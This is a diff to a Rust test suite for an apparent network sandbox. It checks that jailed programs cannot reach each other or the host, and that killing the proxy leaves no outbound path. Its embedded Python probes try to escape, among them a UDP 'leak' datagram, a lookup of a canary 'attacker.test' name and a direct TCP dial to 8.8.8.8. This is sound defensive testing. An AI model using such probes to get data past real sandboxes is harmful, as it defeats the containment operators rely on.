@@ -1,11 +1,13 @@
 //! Section C: what a session's programs reach, by the proxy's port and without knowing of it, from the agent and from a command.
 
 use std::io::{Read as _, Write as _};
-use std::net::{IpAddr, TcpListener, UdpSocket};
+use std::net::{IpAddr, TcpListener};
+use std::time::{Duration, Instant};
 
 use serde_json::json;
 
-use crate::fixture::{Scene, Step, agent, command};
+use crate::fixture::{PATIENCE, Scene, Step, agent, command, wait};
+use crate::mirror::own_address;
 
 fn both(code: &str) -> [Step; 2] {
     [agent(code), command(code)]
@@ -35,14 +37,6 @@ fn server(address: IpAddr) -> u16 {
         }
     });
     port
-}
-
-/// An address of this machine that is not loopback; none without a network.
-fn own_address() -> Option<IpAddr> {
-    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
-    socket.connect("192.0.2.1:9").ok()?;
-    let address = socket.local_addr().ok()?.ip();
-    (!address.is_unspecified() && !address.is_loopback()).then_some(address)
 }
 
 /// Asks by the proxy's port, and by a plain connection that knows of no proxy.
@@ -127,13 +121,14 @@ fn a_look_up_tells_nobody_and_a_datagram_goes_nowhere() {
 def udp(port):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); return s.sendto(b'leak', ('192.0.2.7', port))
 def by_name(name): return socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]
-got = each(quic=lambda: udp(443), name=lambda: by_name('c4n4ry.attacker.test'))
+got = each(quic=lambda: udp(443), name=lambda: by_name('c4n4ry.attacker.test'), tcp=lambda: socket.create_connection(('8.8.8.8', 53), 60))
 ";
     let session = scene.session().policy(&policy("\"listed.test\""));
     let ended = session.run(&both(code));
     ended.assert_sound();
     for told in &ended.told {
         assert_eq!(told.got()["quic"]["errno"], "EPERM", "{}", told.0);
+        assert_eq!(told.got()["tcp"]["errno"], "ECONNREFUSED", "{}", told.0);
         // The address stands for the name in this session, and for nothing outside it.
         let address = told.got()["name"]["got"].as_str().unwrap_or_default();
         assert!(address.contains("198.18."), "{}", told.0);
@@ -190,4 +185,84 @@ fn what_was_reached_is_shown_by_program_and_host() {
     );
     let open = scene.nucleus(&["net", "top"]).output().unwrap();
     assert!(open.status.success(), "{open:?}");
+}
+
+/// C18: what listens in one jail is reached from no other, and not from the host.
+#[test]
+fn a_listener_of_a_jail_is_its_own() {
+    let scene = Scene::new();
+    let free = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = free.local_addr().unwrap().port();
+    drop(free);
+    let listening = "
+serve = 'import socket; s = socket.create_server((\"0.0.0.0\", %d)); print(flush=True)\\nwhile True: s.accept()[0].sendall(b\"own\")' % PORT
+child = subprocess.Popen([sys.executable, '-c', serve], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, start_new_session=True)
+child.stdout.readline()
+got = each(own=lambda: socket.create_connection(('127.0.0.1', PORT), 60).recv(3))
+";
+    let trying =
+        "got = each(other=lambda: socket.create_connection(('127.0.0.1', PORT), 60).recv(3))\n";
+    let session = scene
+        .session()
+        .policy(&policy("\"listed.test\""))
+        .word("PORT", json!(port));
+    let mut running = session.start(&[agent(listening), wait("looked"), command(trying)]);
+    running.until_begun(1);
+    let from_host = std::net::TcpStream::connect(("127.0.0.1", port));
+    running.signal("looked");
+    let ended = running.finish();
+    ended.assert_sound();
+    assert!(from_host.is_err(), "the host reached the jail's port");
+    assert_eq!(
+        ended.told[0].got()["own"]["got"],
+        "b'own'",
+        "{}",
+        ended.stdout
+    );
+    let told = ended.told.last().unwrap();
+    assert_eq!(
+        told.got()["other"]["errno"],
+        "ECONNREFUSED",
+        "{}",
+        ended.stdout
+    );
+}
+
+/// C20: with the proxy killed, nothing goes out any more, by any way.
+#[test]
+fn a_killed_proxy_leaves_no_way_out() {
+    let scene = Scene::new();
+    let (hit, hits) = std::sync::mpsc::channel();
+    let address = own_address().unwrap_or(IpAddr::from([127, 0, 0, 1]));
+    let listener = TcpListener::bind((address, 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let _test_over = hit.send(());
+            let mut head = [0; 1024];
+            let _read = stream.read(&mut head);
+            let _gone = stream
+                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+        }
+    });
+    let code = format!(
+        "{ASK}
+while True:
+    each(proxy=lambda: by_proxy('{address}', {port}, '/open/a'), plain=lambda: plainly('{address}', {port}, '/open/a'))
+    time.sleep(0.02)
+"
+    );
+    let hosts = quiet(&format!("{address}:{port}"));
+    let session = scene.session().policy(&policy(&hosts));
+    let mut running = session.start(&[agent(&code)]);
+    for _ in 0..4 {
+        hits.recv_timeout(PATIENCE).unwrap();
+    }
+    running.child.kill().unwrap();
+    running.child.wait().unwrap();
+    // What was accepted before is counted still; then there is nothing more, ever.
+    let until = Instant::now() + PATIENCE;
+    while hits.recv_timeout(Duration::from_secs(3)).is_ok() {
+        assert!(Instant::now() < until, "dials go on without the proxy");
+    }
 }
